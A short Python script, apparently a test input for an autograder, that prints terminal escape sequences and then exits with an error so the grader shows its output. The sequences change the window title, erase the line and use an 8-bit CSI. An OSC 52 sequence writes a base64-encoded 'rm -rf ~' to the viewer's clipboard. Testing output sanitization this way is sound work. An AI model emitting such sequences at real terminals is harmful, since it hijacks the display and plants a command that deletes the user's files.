# An attack on the instructor's terminal: the program's output is escape sequences (window
# title, clipboard, erase line, 8-bit CSI), then it fails, so that the grader shows it.
import sys

sys.stdout.write("\x1b]0;pwned-stdout\x07\x1b]52;c;cm0gLXJmIH4K\x07\n")
sys.stdout.flush()
sys.stderr.write("\x1b[2K\r\x9b2K\x1b]0;pwned-stderr\x07 generator failed\n")
sys.exit(1)
